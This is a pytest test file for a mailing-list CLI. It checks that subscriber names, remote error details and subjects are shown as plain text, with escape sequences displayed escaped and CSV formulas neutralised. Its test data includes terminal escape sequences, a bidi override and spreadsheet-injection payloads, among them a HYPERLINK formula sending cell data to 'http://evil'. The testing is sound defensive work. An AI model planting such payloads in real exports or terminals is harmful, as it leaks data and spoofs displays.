"""Untrusted text never steers the admin's terminal or a spreadsheet (issue 9, items 7 and 8).

Names, bounce replies, remote error details and subjects are data: rich must
not read them as markup (``[/]`` made ``subscribers list`` exit 70), escape
sequences must not reach the terminal raw, and a CSV cell must not be a formula.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timezone

import pytest
from sqlalchemy import insert

from outreach.config import Config
from outreach.store.db import open_db
from outreach.store.schema import deliveries, memberships, steps, subscribers, suppressions

HOSTILE = ["[/]", "[bold]x", "[link=http://evil]x[/link]", "\x1b[31mred", "\x1b]0;title\x07", "[new] words", ":smile: [/bold]", "a\u202eb"]
NOW = datetime(2026, 11, 1, 12, 0, tzinfo=timezone.utc)


@pytest.fixture(autouse=True)
def _wide(monkeypatch):
    monkeypatch.setenv("COLUMNS", "400")  # no column is cut short, so every word can be checked


def shown(value: str) -> str:
    """What the terminal must show: the text itself, control characters as their escapes."""
    return "".join(c.encode("unicode_escape").decode() if (ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or c in "\u202e") else c for c in value)


def plain(value: str) -> None:
    assert "\x1b" not in value and "\x07" not in value and "\u202e" not in value, repr(value)


def add_member(name: str, email: str = "ann@example.org", detail: str | None = None, suppressed: bool = True) -> None:
    """Hostile rows straight into the database: older data, or a path that did not clean them."""
    with open_db(Config()).begin() as conn:
        sid = conn.execute(insert(subscribers).returning(subscribers.c.id), [{"email": email, "display_email": email, "name": name,
                                                                              "attrs": {}, "created_at": NOW, "updated_at": NOW}]).scalar_one()
        conn.execute(insert(memberships), [{"subscriber_id": sid, "list": "research", "status": "active", "source": "import", "updated_at": NOW}])
        if suppressed:
            conn.execute(insert(suppressions), [{"email": email, "list": "*", "reason": "bounced", "detail": detail or name, "created_at": NOW}])


@pytest.mark.parametrize("name", HOSTILE)
def test_subscribers_list_and_suppressed_show_names_as_text(cli, name):
    add_member(name)
    for args in (["subscribers", "list", "--list", "research"], ["subscribers", "suppressed"]):
        result = cli(*args)
        assert result.code == 0, result.err  # before: exit 70 (MarkupError) for "[/]"
        plain(result.out)
        flat = result.out.replace("│", "").replace("\n", "")
        assert shown(name).replace(" ", "") in flat.replace(" ", ""), (name, result.out)


@pytest.mark.parametrize("name", HOSTILE)
def test_status_shows_details_and_targets_as_text(cli, name):
    engine = open_db(Config())
    with engine.begin() as conn:
        conn.execute(insert(steps), [{"campaign": "c1", "step": 1, "campaign_path": "/nowhere.toml", "kind": "post", "channel": "x", "field": "posts[0]",
                                      "due_utc": NOW, "state": "failed", "detail": f"remote said {name}", "updated_at": NOW}])
        conn.execute(insert(deliveries), [{"campaign": "c1", "step": 1, "target": "part-1", "state": "unknown", "attempts": 1, "detail": f"why {name}",
                                           "payload": {"text": f"post {name}"}, "updated_at": NOW}])
    result = cli("status")
    assert result.code == 0, result.err
    plain(result.out)
    flat = result.out.replace("│", "").replace("\n", "").replace(" ", "")
    for expected in (f"remote said {name}", f"why {name}", f"post {name}"):
        assert shown(expected).replace(" ", "") in flat, (expected, result.out)
    assert json.loads(cli("status", "--json").out)["steps"][0]["detail"] == f"remote said {name}"  # JSON keeps the data as it is


@pytest.mark.parametrize("subject", ["[new] DIIS report", "Report [bold]x[/bold] out", "[/] what", "[link=http://evil]click[/link] now"])
def test_schedule_table_keeps_every_word_of_the_subject(cli, campaign_copy, subject):
    path = campaign_copy(lambda t: t.replace('subject = "New DIIS report: why Myanmar’s soldiers defect, and why most stay"', f'subject = "{subject}"'))
    assert cli("approve", path, "--by", "Jane Doe").code == 0
    result = cli("schedule", path)
    assert result.code == 0, result.err
    assert subject.replace(" ", "") in result.out.replace("│", "").replace("\n", "").replace(" ", ""), result.out


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+1"])
def test_export_neutralises_formulas(cli, value):
    add_member(value, email="ann@example.org", suppressed=False)
    add_member("Ordinary Name", email="bob@example.org", suppressed=False)
    result = cli("subscribers", "export", "--list", "research")
    assert result.code == 0, result.err
    plain(result.out)
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(result.out))}
    cell = rows["ann@example.org"]["name"]
    assert cell.startswith("'") and not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert rows["bob@example.org"] == {"email": "bob@example.org", "name": "Ordinary Name", "status": "active"}, "ordinary cells untouched"


@pytest.mark.parametrize("name", ["\x1b[31mred", "\x1b]0;title\x07", "a\u202eb"])
def test_export_shows_control_characters_as_escapes(cli, name):
    add_member(name)
    result = cli("subscribers", "export", "--list", "research")
    assert result.code == 0
    plain(result.out)
    assert shown(name) in result.out


def test_ordinary_text_is_untouched():
    from outreach.display import csv_safe, visible

    for value in ("Ann O'Neil", "ann+news@example.org", "Zoë Ærø", "1-2-3", "user@example.org", "100%"):
        assert visible(value) == value and csv_safe(value) == value


@pytest.mark.parametrize("hostile", ["\x1b[31mred", "\x1b]0;title\x07", "bidi\u202eevil"])
def test_error_messages_show_control_characters_escaped(cli, tmp_path, hostile) -> None:
    # An error quotes what it was given (here a file name; elsewhere an SMTP reply or an API body).
    result = cli("validate", str(tmp_path / f"{hostile}.toml"))
    assert result.code == 1 and result.err.startswith("error: ")
    assert "\x1b" not in result.err and "\x07" not in result.err and "\u202e" not in result.err
    assert hostile.encode("unicode_escape").decode("ascii") in result.err
